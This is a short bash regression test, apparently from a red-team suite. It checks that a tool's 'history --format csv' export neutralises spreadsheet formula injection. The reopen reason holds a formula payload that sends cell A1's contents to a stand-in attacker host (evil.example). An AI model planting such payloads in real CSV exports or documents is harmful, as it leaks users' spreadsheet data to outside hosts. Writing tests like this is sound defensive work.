#!/bin/bash
# `history --format csv` ("for your own charts", i.e. meant for spreadsheets) writes text from history as is:
# a reopen reason '=HYPERLINK("http://evil.example/?"&A1,"click")' (accepted by reopen: one printable line)
# becomes a live formula when the CSV is opened in a spreadsheet (CSV/formula injection, OWASP). Signer names
# from hand-made commits can start with =, +, -, @ the same way.
# Expected: fields starting with = + - @ (or tab/CR) are neutralised in CSV (e.g. prefixed with ').
. "$(dirname "$0")/lib.sh"
mkrepo /tmp/redteam-19 >/dev/null; ready; PG advance dns >/dev/null 2>&1
PG reopen dns --to planning --reason '=HYPERLINK("http://evil.example/?"&A1,"click")' >/dev/null 2>&1; echo "reopen rc=$?"
line=$(PG history dns --format csv | tail -1); echo "csv: $line"
if echo "$line" | grep -q ',"=HYPERLINK'; then echo "BUG: a formula from history reaches the CSV unneutralised"; exit 1; fi
echo OK; exit 0
